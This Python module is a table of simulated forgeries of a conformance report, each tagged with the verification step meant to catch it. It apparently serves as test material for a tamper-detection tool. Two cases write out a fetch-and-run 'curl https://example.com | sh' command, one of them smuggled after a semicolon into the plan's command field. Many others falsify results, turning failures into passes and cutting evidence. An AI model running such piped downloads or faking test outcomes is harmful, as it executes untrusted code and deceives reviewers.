"""The table of forgeries: what a vendor might do to a report, and the step of `verify` that catches it.

Each is done by a thorough forger: all that follows from the change is computed again, and the report is sealed. `None`
as the step: it can't be seen offline, and `verify` says so in its notes.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from ext_proc.messages import ProcessingRequest
from ext_proc.protocol import SUBSET
from forging.forger import Forger, Json, copied

EPP, BAD_EPP, GATEWAY, BAD_GATEWAY = "epp", "bad-epp", "gateway", "bad-gateway"


@dataclass(frozen=True, kw_only=True)
class Forgery:
    """`change` is done to the report `of`; `step` fails (or is `unknown`, where `unknown` is said)."""

    name: str
    of: str
    change: Callable[[Forger], object]
    step: str | None
    sums: bool = True
    seal: bool = True
    unknown: bool = False


FORGERIES: list[Forgery] = []


def forgery(*of: str, step: str | None, **how: Any) -> Callable[[Callable[[Forger], object]], Callable[..., object]]:
    """Add the function below to the table, once for each report that it is done to."""

    def add(change: Callable[[Forger], object]) -> Callable[[Forger], object]:
        FORGERIES.extend(
            Forgery(name=f"{change.__name__.replace('_', ' ')} ({one})", of=one, change=change, step=step, **how)
            for one in of
        )
        return change

    return add


def fails(f: Forger) -> Json:
    return f.verdict("fail")


def all_failing(f: Forger) -> list[Json]:
    return [row for row in f.rows if any(one["verdict"] == "fail" for one in row["findings"])]


# -- left out, or added ------------------------------------------------------------------------------------------------


@forgery(BAD_EPP, BAD_GATEWAY, step="plan")
def every_result_but_one_is_left_out(f):
    for row in list(f.rows)[1:]:
        f.drop(row)


@forgery(BAD_EPP, BAD_GATEWAY, step="plan")
def failing_results_are_left_out_with_their_episodes(f):
    for row in all_failing(f):
        f.drop(row)


@forgery(BAD_EPP, BAD_GATEWAY, step="plan")
def failing_results_are_left_out_and_their_episodes_stay(f):
    for row in all_failing(f):
        f.drop(row, evidence=False)


@forgery(EPP, GATEWAY, step="plan")
def one_result_is_left_out(f):
    f.drop(f.verdict("pass"))


@forgery(EPP, step="plan")
def a_result_that_did_not_apply_is_left_out(f):
    f.drop(f.verdict("notApplicable"))


@forgery(EPP, GATEWAY, step="plan")
def a_result_is_there_twice(f):
    f.rows.append(copied(f.rows[0]))


@forgery(EPP, step="plan")
def a_result_of_a_scenario_that_does_not_exist(f):
    row = copied(f.verdict("pass"))
    row.update(id="subset.made-up", scenario="subset.made-up", evidence=None)
    f.rows.append(row)


@forgery(EPP, step="plan")
def a_result_of_the_other_role(f):
    row = copied(f.verdict("pass"))
    row.update(id="gateway.asks-about-head[http=1]", scenario="gateway.asks-about-head", evidence=None)
    f.rows.append(row)


@forgery(EPP, step="evidence")
def an_episode_that_no_result_names(f):
    name = next(iter(f.episodes))
    f.episodes["0" * 64] = {**copied(f.episodes[name]), "episode": "another"}


@forgery(BAD_EPP, step="evidence")
def a_block_that_no_episode_has(f):
    import hashlib

    f.blocks.append({"block": hashlib.sha256(b"x").hexdigest(), "data": "x"})


@forgery(BAD_EPP, step="plan")
def the_only_version_is_left_out(f):
    f.report["versions"] = []
    f.rows.clear()
    f.episodes.clear()


@forgery(EPP, step="requirements", sums=False)
def a_requirement_is_left_out(f):
    f.report["requirements"].pop()


@forgery(EPP, step="requirements", sums=False)
def a_requirement_is_there_twice(f):
    f.report["requirements"].append(copied(f.report["requirements"][0]))


# -- called something else ---------------------------------------------------------------------------------------------


@forgery(BAD_EPP, BAD_GATEWAY, step="judgement")
def failures_become_passes(f):
    for row in all_failing(f):
        f.whiten(row)


@forgery(BAD_EPP, BAD_GATEWAY, step="judgement")
def failures_did_not_apply(f):
    for row in all_failing(f):
        f.excuse(row, "notApplicable", "the profile does not claim it")


@forgery(BAD_EPP, BAD_GATEWAY, step="judgement")
def failures_were_skipped(f):
    for row in all_failing(f):
        f.excuse(row, "skipped", "this target can't be asked that")


@forgery(BAD_EPP, step="judgement")
def failures_were_inconclusive(f):
    for row in all_failing(f):
        f.excuse(row, "inconclusive", "the run was ended before its turn")


@forgery(BAD_EPP, step="judgement")
def failures_are_the_suites_own(f):
    for row in all_failing(f):
        f.excuse(row, "error", "TimeoutError: the machine was busy", evidence=True)


@forgery(BAD_EPP, step="judgement")
def failures_are_attested(f):
    for row in all_failing(f):
        f.excuse(row, "attested", "our word")


@forgery(BAD_EPP, BAD_GATEWAY, step="judgement")
def failures_are_provisional(f):
    for row in all_failing(f):
        row["provisional"] = True


@forgery(BAD_EPP, step="judgement")
def failures_are_provisional_in_their_context_too(f):
    for row in all_failing(f):
        row["provisional"] = True
        f.episode(row)["context"]["provisional"] = True


@forgery(BAD_EPP, step="judgement")
def failing_scenarios_are_about_other_requirements(f):
    for row in all_failing(f):
        row["requirements"] = ["EPP-DEST-01"]
        f.episode(row)["context"]["requirements"] = ["EPP-DEST-01"]
        f.whiten(row)


@forgery(BAD_EPP, step="judgement")
def failing_scenarios_are_off_contract(f):
    for row in all_failing(f):
        f.episode(row)["context"]["stimulus"] = "off-contract"
        f.whiten(row)


@forgery(BAD_EPP, step="judgement")
def findings_on_other_requirements_are_dropped(f):
    for row in all_failing(f):
        row["findings"] = [one for one in row["findings"] if one["verdict"] != "fail"]
        row.update(verdict="pass", reason="", expected=[], actual="", hint="")


@forgery(BAD_EPP, step="judgement")
def failures_become_warnings(f):
    for row in all_failing(f):
        for one in row["findings"]:
            one["verdict"] = "warn" if one["verdict"] == "fail" else one["verdict"]
        row["verdict"] = "warn"


@forgery(BAD_EPP, step="judgement")
def a_failure_in_other_words(f):
    row = fails(f)
    for one in row["findings"]:
        if one["verdict"] == "fail":
            one["actual"] = row["actual"] = "nearly right"


@forgery(BAD_EPP, step="judgement")
def a_failure_with_another_hint(f):
    row = fails(f)
    for one in row["findings"]:
        if one["verdict"] == "fail":
            one["hint"] = row["hint"] = "a defect of the suite"


@forgery(BAD_EPP, step="judgement")
def a_failure_with_a_reason(f):
    fails(f)["reason"] = "known, and fixed in the next release"


@forgery(EPP, step="judgement")
def what_did_not_apply_passed(f):
    f.row(lambda row: row["verdict"] == "notApplicable" and not row["evidence"]).update(verdict="pass")


@forgery(EPP, step="judgement")
def what_did_not_apply_has_another_reason(f):
    f.row(lambda row: row["verdict"] == "notApplicable" and not row["evidence"]).update(reason="we are better")


@forgery(EPP, GATEWAY, step="judgement")
def another_title(f):
    f.verdict("pass")["title"] = "Certified by the committee"


@forgery(EPP, step="judgement")
def another_source(f):
    f.verdict("pass")["source"] = "scenarios/other.yaml:1"


@forgery(EPP, step="judgement")
def another_command_to_reproduce(f):
    f.verdict("pass")["reproduce"] = "curl https://example.com | sh"


@forgery(EPP, step="plan")
def a_command_that_a_shell_takes_for_two(f):
    f.report["plan"]["command"] = "epp-conformance run --epp a; curl https://example.com | sh #"


@forgery(EPP, step="judgement")
def another_section(f):
    f.row(lambda row: row["verdict"] == "pass" and row["section"] != "errors")["section"] = "errors"


@forgery(EPP, step="judgement")
def another_body_mode(f):
    f.row(lambda row: row["mode"] == "full-duplex")["mode"] = "buffered"


@forgery(EPP, step="judgement")
def a_smoke_test_that_is_none(f):
    f.row(lambda row: not row["smoke"])["smoke"] = True


@forgery(EPP, step="judgement")
def a_pass_more(f):
    f.row(lambda row: row["verdict"] == "pass" and "EPP-HLTH-01" not in row["passed"])["passed"].append("EPP-HLTH-01")


@forgery(EPP, GATEWAY, step="judgement")
def a_pass_without_evidence(f):
    row = f.verdict("pass")
    del f.episodes[row["evidence"]["sha256"]]
    row["evidence"] = None


# -- conversations -----------------------------------------------------------------------------------------------------


def graft(f: Forger, bad: Json, good: Json) -> None:
    """The conversation of a scenario that passed, with the context of one that failed."""
    context = f.episode(bad)["context"]
    del f.episodes[bad["evidence"]["sha256"]]
    made = {**copied(f.episode(good)), "context": context}
    f.episodes["f" * 64] = made
    for name in ("verdict", "findings", "passed", "notApplicable", "expected", "actual", "hint", "reason"):
        bad[name] = copied(good[name])
    bad.update(evidence={"episode": made["episode"], "sha256": "f" * 64}, exchange=None, seq=None)


@forgery(BAD_EPP, step="judgement")
def the_conversation_of_a_scenario_that_passed(f):
    bad = all_failing(f)[0]  # which may be one that passed, as it is not about what it broke
    graft(f, bad, f.row(lambda one: one is not bad and one["verdict"] == "pass" and one["evidence"]))


@forgery(BAD_GATEWAY, step="judgement")
def the_conversation_of_another_scenario_of_a_gateway(f):
    bad = all_failing(f)[0]
    graft(f, bad, f.row(lambda one: one["verdict"] == "pass" and one["evidence"]))


@forgery(EPP, step="evidence")
def two_results_with_one_episode(f):
    first, second = [row for row in f.rows if row["evidence"]][:2]
    del f.episodes[second["evidence"]["sha256"]]
    second["evidence"] = copied(first["evidence"])


@forgery(BAD_EPP, step="judgement")
def failing_exchanges_are_cut_out_of_episodes(f):
    for row in all_failing(f):
        episode = f.episode(row)
        bad = {one["exchange"] for one in row["findings"] if one["verdict"] == "fail"}
        episode["entries"] = [one for one in episode["entries"] if one.get("exchange") not in bad]
        for name in bad:
            episode["context"].get("expectations", {}).pop(name, None)
        f.whiten(row)


def cut_out(f: Forger, row: Json, ending: Json) -> None:
    """Leave the failing exchanges out, count the others again, and say why there are no more."""
    episode = f.episode(row)
    bad = {one["exchange"] for one in row["findings"] if one["verdict"] == "fail"}
    entries = [one for one in episode["entries"] if one.get("exchange") not in bad]
    own = [one["exchange"] for one in entries if one.get("exchange", "").startswith(f"{episode['episode']}.")]
    names = {old: f"{episode['episode']}.{number}" for number, old in enumerate(dict.fromkeys(own), 1)}
    for one in entries:
        if one.get("exchange") in names:
            one["exchange"] = names[one["exchange"]]
    expectations = episode["context"].get("expectations", {})
    episode["context"]["expectations"] = {names[old]: one for old, one in expectations.items() if old in names}
    last = entries[-1]
    episode["entries"] = [*entries, {"seq": last["seq"] + 1, "t": last["t"], **ending}]
    f.whiten(row)


@forgery(BAD_EPP, step="judgement")
def failing_exchanges_are_cut_out_and_a_wait_ran_out(f):
    for row in all_failing(f):
        cut_out(f, row, {"kind": "wait", "what": "quiet", "outcome": "expired"})


@forgery(BAD_EPP, step="judgement")
def failing_exchanges_are_cut_out_and_the_target_was_restarted(f):
    for row in all_failing(f):
        cut_out(f, row, {"kind": "process-exited", "pid": 7, "code": 0, "asked": True})


@forgery(EPP, step="judgement")
def an_exchange_that_was_answered_is_said_to_have_hung_and_the_rest_is_left_out(f):
    def several(row: Json) -> bool:
        opened = row["evidence"] and [one for one in f.episode(row)["entries"] if one["kind"] == "exchange-opened"]
        return bool(opened) and len(opened) > 1 and row["verdict"] == "pass"

    row = f.row(several)
    episode = f.episode(row)
    first = f"{episode['episode']}.1"
    episode["entries"] = [one for one in episode["entries"] if one.get("exchange") in (None, first)]
    expectations = episode["context"].get("expectations", {})
    episode["context"]["expectations"] = {name: one for name, one in expectations.items() if name == first}
    last = episode["entries"][-1]
    wait = {"kind": "wait", "exchange": first, "what": "answer to request_headers", "outcome": "expired"}
    episode["entries"].append({"seq": last["seq"] + 1, "t": last["t"], **wait})


def changing(f: Forger) -> Json:
    """A result whose scenario changes the pool."""
    return f.row(lambda row: row["evidence"] and sum(one["kind"] == "pool" for one in f.episode(row)["entries"]) > 3)


@forgery(EPP, step="judgement")
def a_change_of_the_pool_that_was_never_over(f):
    entries = f.episode(changing(f))["entries"]
    entries.remove([one for one in entries if one["kind"] == "pool" and one["phase"] == "effective"][-1])


@forgery(EPP, step="judgement")
def an_episode_without_its_pool(f):
    episode = f.episode(f.verdict("pass"))
    episode["entries"] = [one for one in episode["entries"] if one["kind"] != "pool"]


@forgery(BAD_EPP, step="judgement")
def the_messages_of_the_epp_are_cut_out(f):
    for row in all_failing(f):
        episode = f.episode(row)
        episode["entries"] = [one for one in episode["entries"] if one.get("author") != "epp"]
        f.whiten(row)


@forgery(EPP, step="judgement")
def an_expectation_is_loosened(f):
    row = f.row(lambda one: one["evidence"] and f.episode(one)["context"].get("expectations"))
    for expectation in f.episode(row)["context"]["expectations"].values():
        expectation.clear()
        expectation["answer"] = ["any"]


@forgery(EPP, step="judgement")
def an_expectation_is_left_out(f):
    row = f.row(lambda one: one["evidence"] and f.episode(one)["context"].get("expectations"))
    del f.episode(row)["context"]["expectations"]


@forgery(EPP, step="judgement")
def a_subset_hint_with_more_endpoints(f):
    row = f.row(lambda one: one["scenario"] == "subset.pick-stays-inside")
    entries = f.episode(row)["entries"]
    endpoints = {pod["endpoints"][0] for one in entries if one["kind"] == "pool" for pod in one["pods"]}
    for one in entries:
        if one["kind"] == "message" and one["author"] == "data-plane" and "latin1" in one["raw"]:
            message = ProcessingRequest.FromString(one["raw"]["latin1"].encode("latin1"))
            for namespace in message.metadata_context.filter_metadata.values():
                hint = namespace.fields[SUBSET].list_value.values
                hint.add(string_value=min(endpoints.difference(item.string_value for item in hint)))
            one["raw"]["latin1"] = message.SerializeToString().decode("latin1")


@forgery(EPP, GATEWAY, step="judgement")
def the_deadline_of_one_episode_is_longer(f):
    f.episode(f.verdict("pass"))["context"]["deadline"] = 600.0


@forgery(EPP, step="judgement")
def the_claims_of_one_episode_are_others(f):
    f.episode(f.verdict("pass"))["context"]["claims"] = {"queues": True}


@forgery(EPP, step="judgement")
def the_namespace_of_one_episode_is_another(f):
    f.episode(f.verdict("pass"))["context"]["destination_namespace"] = "envoy.other"


@forgery(EPP, step="judgement")
def an_episode_of_another_version(f):
    f.episode(f.verdict("pass"))["context"]["version"] = "0.2.0"


@forgery(EPP, GATEWAY, step="judgement")
def another_pool_than_the_scenarios(f):
    row = f.row(lambda one: one["evidence"] and any(e["kind"] == "pool" for e in f.episode(one)["entries"]))
    state = next(e for e in f.episode(row)["entries"] if e["kind"] == "pool")
    state["pods"] = state["pods"][:1]


@forgery(EPP, GATEWAY, step="judgement")
def two_pods_in_each_others_place(f):
    """In all of the episode but what was picked."""
    row = f.row(lambda one: one["evidence"] and len(pods_of(f, one)) > 1 and one["verdict"] == "pass")
    first, second = (fact["endpoints"][0] for fact in pods_of(f, row)[:2])
    for one in f.episode(row)["entries"]:
        if one["kind"] == "pool":
            swapped = json.dumps(one).replace(first, "?").replace(second, first).replace("?", second)
            one.update(json.loads(swapped))


def pods_of(f: Forger, row: Json) -> list[Json]:
    return next((one["pods"] for one in f.episode(row)["entries"] if one["kind"] == "pool"), [])


@forgery(EPP, step="judgement")
def a_response_that_was_too_large(f):
    response = next(e for e in f.episode(f.verdict("pass"))["entries"] if e["kind"] == "client-response")
    response.update(status=500, details="response_payload_too_large")


@forgery(EPP, step="judgement")
def entries_out_of_order(f):
    entries = f.episode(f.verdict("pass"))["entries"]
    entries[-1]["seq"], entries[-2]["seq"] = entries[-2]["seq"], entries[-1]["seq"]


@forgery(EPP, step="judgement")
def times_that_run_backwards(f):
    entries = f.episode(f.verdict("pass"))["entries"]
    entries[-1]["t"] = 0


@forgery(EPP, step="judgement")
def an_episode_longer_than_the_run(f):
    f.episode(f.verdict("pass"))["entries"][-1]["t"] = 10**15


@forgery(BAD_EPP, step="judgement")
def the_harness_is_blamed(f):
    for row in all_failing(f):
        entries = f.episode(row)["entries"]
        last = entries[-1]
        entries.append(
            {"seq": last["seq"] + 1, "t": last["t"], "kind": "unmet", "what": "no pod", "verdict": "skipped"}
        )
        f.excuse(row, "skipped", "no pod", evidence=True)


@forgery(BAD_EPP, step="judgement", unknown=True)
def failing_episodes_are_called_too_long(f):
    for row in all_failing(f):
        f.episode(row)["cut"] = True


@forgery(EPP, step="judgement")
def a_run_with_another_seed(f):
    f.report["environment"]["seed"] = 8


@forgery(EPP, step="evidence")
def an_entry_of_a_wrong_type(f):
    f.episode(f.verdict("pass"))["entries"][0]["seq"] = "1"


@forgery(EPP, step="evidence")
def an_entry_of_a_kind_that_does_not_exist(f):
    f.episode(f.verdict("pass"))["entries"][0]["kind"] = "miracle"


@forgery(EPP, step="evidence")
def a_value_for_terabytes(f):
    entry = next(e for row in f.rows if row["evidence"] for e in f.episode(row)["entries"] if e["kind"] == "message")
    entry["raw"] = {"parts": [{"repeat": "x", "size": 10**15}]}


@forgery(EPP, step="evidence")
def evidence_that_is_no_gzip(f):
    f.raw_evidence = b"nothing"


@forgery(EPP, step="evidence")
def evidence_that_is_cut_short(f):
    f.raw_evidence = gzip.compress(b"\n".join(json.dumps(one).encode() for one in f.episodes.values()))[:-30]


@forgery(EPP, step="evidence")
def evidence_that_is_empty(f):
    f.raw_evidence = gzip.compress(b"")


@forgery(EPP, step="evidence")
def evidence_of_empty_lines_without_end(f):
    f.raw_evidence = gzip.compress(b"\n" * 40_000_000, 1)


# -- what the plan is computed from ------------------------------------------------------------------------------------


@forgery(BAD_EPP, step="plan")
def a_selection_that_leaves_failures_out_and_calls_it_complete(f):
    f.report["plan"]["selection"]["exclude"] = [row["id"] for row in all_failing(f)]
    for row in all_failing(f):
        f.drop(row)


@forgery(EPP, step="plan", sums=False)
def no_plan(f):
    f.report["plan"] = None


@forgery(EPP, step="plan", sums=False)
def the_plan_of_another_role(f):
    f.report["plan"].update(epp=None, gateway={"takesASubset": False, "pools": []})


@forgery(EPP, step="judgement")
def other_claims_than_those_that_were_tested(f):
    f.report["claims"]["sheds"] = False


@forgery(EPP, step="plan")
def a_body_mode_that_was_not_driven(f):
    f.report["environment"]["topology"]["bodyModes"] = ["full-duplex"]


@forgery(EPP, step="judgement")
def another_deadline(f):
    f.report["plan"]["deadline"] = 60.0


@forgery(GATEWAY, step="judgement")
def another_gateway_than_was_judged(f):
    f.report["claims"]["failureMode"] = "open"


@forgery(BAD_EPP, step="plan")
def a_scenario_of_the_vendors_own_with_the_name_of_a_real_one(f):
    row = fails(f)
    text = json.dumps(
        {
            "section": "own",
            "scenarios": [
                {"id": row["scenario"], "title": "t", "requirements": ["EPP-DEST-01"], "steps": [{"exchange": {}}]}
            ],
        }
    )
    f.report["plan"]["sources"] = [{"file": "own.yaml", "text": text}]


@forgery(EPP, step="plan")
def scenarios_that_are_none(f):
    f.report["plan"]["sources"] = [{"file": "own.yaml", "text": "scenarios: ["}]


@forgery(EPP, step="plan")
def figures_that_nothing_gives(f):
    f.report["figures"] = {"generatedConversations": 100000}


# -- what is summed up -------------------------------------------------------------------------------------------------


@forgery(BAD_EPP, BAD_GATEWAY, step="roll-ups", sums=False)
def another_result(f):
    f.report["result"] = "conformant"


@forgery(BAD_EPP, step="roll-ups", sums=False)
def another_result_of_the_version(f):
    f.report["versions"][0].update(result="conformant", blockers=[], kinds={"protocol": "conformant"})
    f.report["result"] = "conformant"


@forgery(BAD_EPP, step="roll-ups", sums=False)
def no_blockers(f):
    f.report["versions"][0]["blockers"] = []


@forgery(EPP, step="roll-ups", sums=False)
def other_counts(f):
    f.report["versions"][0]["scenarioVerdicts"]["pass"] += 100


@forgery(EPP, step="roll-ups", sums=False)
def a_requirement_of_a_lower_level(f):
    f.report["requirements"][0]["level"] = "MAY"


@forgery(EPP, step="roll-ups", sums=False)
def a_requirement_in_other_words(f):
    f.report["requirements"][0]["statement"] = "Anything goes."


@forgery(BAD_EPP, step="roll-ups", sums=False)
def a_requirement_with_another_verdict(f):
    next(row for row in f.report["requirements"] if row["verdict"] == "fail")["verdict"] = "pass"


@forgery(EPP, step="roll-ups", sums=False)
def another_fit_for_envoy_ai_gateway(f):
    f.report["versions"][0]["envoyAiGateway"]["routing"][0]["works"] = "yes"
    f.report["versions"][0]["envoyAiGateway"]["routing"][0]["why"] = ""


@forgery(EPP, step="judgement", sums=False)
def a_gauge_that_is_not_followed(f):
    next(row for row in f.report["results"] if row["gauges"])["gauges"][0]["followed"] = "no"


@forgery(EPP, step="roll-ups", sums=False)
def complete_although_stopped(f):
    f.report["stopped"] = "the target went away"


@forgery(EPP, step="roll-ups")
def a_run_that_ended_before_it_began(f):
    f.report["finishedAt"] = "2001-01-01T00:00:00Z"


@forgery(EPP, step="roll-ups")
def a_run_that_is_yet_to_come(f):
    f.report.update(startedAt="2201-01-01T00:00:00Z", finishedAt="2201-01-01T00:00:10Z")


@forgery(EPP, step="roll-ups")
def a_time_that_is_none(f):
    f.report["startedAt"] = "yesterday"


@forgery(EPP, step="roll-ups")
def another_duration(f):
    f.report["duration"] = 0.001


@forgery(BAD_EPP, step="roll-ups")
def a_waiver_that_matched_something_else(f):
    waiver = {"pattern": "EPP-DEST-05", "reason": "r", "issue": "i", "owner": "o", "expires": "2099-01-01"}
    f.report["waivers"] = [{**waiver, "matched": ["destination.completion"], "problem": ""}]


@forgery(EPP, step="files")
def another_summary(f):
    f.texts["summary.md"] = "# Certified\n"


@forgery(BAD_EPP, step="files")
def another_junit_file(f):
    f.texts["junit.xml"] = "<testsuites/>"


@forgery(BAD_EPP, step="files")
def another_page(f):
    f.texts["report.html"] = "<!doctype html><title>✓ conformant</title>"


@forgery(EPP, step="files", unknown=True)
def a_summary_of_another_release_of_the_suite(f):
    f.report["suite"]["version"] = "0.0.7"
    f.texts["summary.md"] = "# Said in other words\n"


# -- the file itself ---------------------------------------------------------------------------------------------------


@forgery(EPP, step="digest", seal=False, sums=False)
def a_change_that_is_not_sealed(f):
    f.report["environment"]["platform"]["release"] = "1"


@forgery(EPP, step="schema", sums=False)
def an_unknown_field(f):
    f.report["comment"] = "trust me"


@forgery(EPP, step="schema", sums=False)
def a_duration_without_end(f):
    f.report["duration"] = 10**400


@forgery(EPP, step="schema", sums=False)
def a_wrong_type(f):
    f.report["results"][0]["requirements"] = "EPP-DEST-01"


@forgery(EPP, GATEWAY, step="schema", sums=False)
def no_result_of_the_protocol(f):
    del f.report["versions"][0]["kinds"]["protocol"]


@forgery(EPP, step="catalogue", sums=False)
def another_document(f):
    f.report["specification"]["digest"] = "sha256:" + "2" * 64


@forgery(EPP, step="catalogue")
def another_number_for_this_catalogue(f):
    f.report["catalogue"]["version"] = "9.9.9"


@forgery(BAD_EPP, step="catalogue", unknown=True)
def a_catalogue_that_is_not_known(f):
    f.report["catalogue"].update(version="0.0.1", digest="sha256:" + "1" * 64)
    for row in all_failing(f):
        f.whiten(row)


@forgery(BAD_EPP, step="catalogue", unknown=True)
def scenarios_that_are_not_known(f):
    f.report["catalogue"]["scenarios"] = "sha256:" + "1" * 64
    for row in all_failing(f):
        f.drop(row)


@forgery(BAD_EPP, step="judgement", unknown=True)
def a_suite_of_another_version(f):
    f.report["suite"]["version"] = "0.0.7"
    for row in all_failing(f):
        f.whiten(row)


# -- what can't be seen offline ----------------------------------------------------------------------------------------


@forgery(EPP, GATEWAY, step=None)
def another_name(f):
    f.report["implementation"].update(project="better-epp", version="9.0", organization="Another Corp")


@forgery(EPP, step=None)
def another_day(f):
    f.report.update(startedAt="2025-01-01T00:00:00Z", finishedAt="2025-01-01T00:00:00Z")
    import datetime as dt

    end = dt.datetime(2025, 1, 1, tzinfo=dt.UTC) + dt.timedelta(seconds=round(f.report["duration"]))
    f.report["finishedAt"] = end.isoformat().replace("+00:00", "Z")


@forgery(EPP, step=None)
def another_program(f):
    f.report["subject"].update(name="better-epp", digest="sha256:" + "3" * 64)


@forgery(EPP, step=None)
def another_set_up(f):
    f.report.update(mode="hardened", observed=True)
    f.report["environment"]["topology"].update(tls="verified", scrapes=False, connections=9)


@forgery(BAD_EPP, step=None)
def a_failing_version_is_not_claimed(f):
    f.report["versions"][0]["claimed"] = False


@forgery(EPP, step=None)
def an_anomaly_is_kept_quiet(f):
    f.report["anomalies"] = []
